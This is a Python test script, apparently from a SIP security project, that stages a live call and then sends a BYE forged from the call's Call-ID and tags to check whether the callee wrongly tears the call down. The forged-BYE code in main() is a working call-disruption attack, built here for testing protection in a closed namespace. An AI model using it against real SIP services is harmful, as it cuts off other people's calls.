#!/usr/bin/env python3
"""The SecSip BYE attack against a live call, from inside a test namespace.

A caller (--caller IP:PORT) sets up a real call to a UAS (--callee IP:PORT, e.g. SIPp's
built-in uas scenario): INVITE, waits for 200, ACK. Then an attacker at another address of the
same host (--attacker IP:PORT) sends a BYE forged from everything it could sniff: the call's
Call-ID, From (with tag) and To (with tag). Without protection the UAS accepts it, answers the
attacker 200 and tears the call down, so the caller's real BYE later gets no 200.

Prints one JSON line: {"call_established": bool, "attacker_answered": bool,
"forged_bye_accepted": bool, "real_bye_status": int or null}. Standard library only; every wait is bounded; nothing is sent
anywhere but the two given addresses.
"""

import argparse
import json
import random
import socket
import sys
import time


def addr(s):
    host, port = s.rsplit(":", 1)
    return host, int(port)


def request(method, ruri, via, from_hdr, to_hdr, call_id, cseq, contact, body=b""):
    lines = [
        f"{method} {ruri} SIP/2.0",
        f"Via: SIP/2.0/UDP {via[0]}:{via[1]};branch=z9hG4bK{random.getrandbits(48):x}",
        "Max-Forwards: 70",
        f"From: {from_hdr}",
        f"To: {to_hdr}",
        f"Call-ID: {call_id}",
        f"CSeq: {cseq} {method}",
        f"Contact: <sip:caller@{contact[0]}:{contact[1]}>",
        "User-Agent: secsip-test",
    ]
    if body:
        lines.append("Content-Type: application/sdp")
    lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def header(msg, name):
    for line in msg.split(b"\r\n")[1:]:
        if not line:
            break
        k, _, v = line.partition(b":")
        if k.strip().lower() == name.lower().encode():
            return v.strip().decode(errors="replace")
    return None


def status(msg):
    parts = msg.split(b" ", 2)
    if len(parts) >= 2 and parts[0] == b"SIP/2.0" and parts[1].isdigit():
        return int(parts[1])
    return None


def wait_for(sock, want_cseq_method, deadline, final_only=True):
    """Returns the first response for CSeq method `want_cseq_method` (final unless told)."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data, _ = sock.recvfrom(65535)
        except socket.timeout:
            return None
        code = status(data)
        cseq = header(data, "CSeq") or ""
        if code is None or not cseq.endswith(want_cseq_method):
            continue
        if final_only and code < 200:
            continue
        return data
    return None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--caller", required=True, type=addr)
    ap.add_argument("--attacker", required=True, type=addr)
    ap.add_argument("--callee", required=True, type=addr)
    ap.add_argument("--timeout", type=float, default=5.0)
    a = ap.parse_args()

    caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    caller.bind(a.caller)
    attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attacker.bind(a.attacker)

    call_id = f"bye-attack-{random.getrandbits(64):x}@{a.caller[0]}"
    ruri = f"sip:service@{a.callee[0]}:{a.callee[1]}"
    from_hdr = f"<sip:caller@{a.caller[0]}>;tag={random.getrandbits(32):x}"
    to_uri = f"<sip:service@{a.callee[0]}>"
    sdp = (f"v=0\r\no=- 1 1 IN IP4 {a.caller[0]}\r\ns=-\r\nc=IN IP4 {a.caller[0]}\r\n"
           f"t=0 0\r\nm=audio 6000 RTP/AVP 0\r\n").encode()

    result = {"call_established": False, "attacker_answered": False, "forged_bye_accepted": False,
              "real_bye_status": None}
    invite = request("INVITE", ruri, a.caller, from_hdr, to_uri, call_id, 1, a.caller, sdp)
    caller.sendto(invite, a.callee)
    ok = wait_for(caller, "INVITE", time.monotonic() + a.timeout)
    if ok is None or status(ok) != 200:
        print(json.dumps(result))
        return 1
    to_hdr = header(ok, "To")
    result["call_established"] = True
    caller.sendto(request("ACK", ruri, a.caller, from_hdr, to_hdr, call_id, 1, a.caller), a.callee)
    time.sleep(0.2)

    # The forged BYE: same dialog identifiers, another source address.
    forged = request("BYE", ruri, a.attacker, from_hdr, to_hdr, call_id, 2, a.attacker)
    attacker.sendto(forged, a.callee)
    answer = wait_for(attacker, "BYE", time.monotonic() + 1.0, final_only=False)
    # Some UASs (SIPp among them) answer the call's remote address rather than the Via: a
    # BYE answer at the caller before it sent one means the forged BYE was accepted too.
    echoed = wait_for(caller, "BYE", time.monotonic() + 0.2, final_only=False)
    result["attacker_answered"] = answer is not None
    result["forged_bye_accepted"] = answer is not None or echoed is not None

    real = request("BYE", ruri, a.caller, from_hdr, to_hdr, call_id, 2, a.caller)
    caller.sendto(real, a.callee)
    resp = wait_for(caller, "BYE", time.monotonic() + 2.0)
    if resp is None:
        # UDP: retransmit once, as a UA would (Timer E).
        caller.sendto(real, a.callee)
        resp = wait_for(caller, "BYE", time.monotonic() + 2.0)
    result["real_bye_status"] = status(resp) if resp else None
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
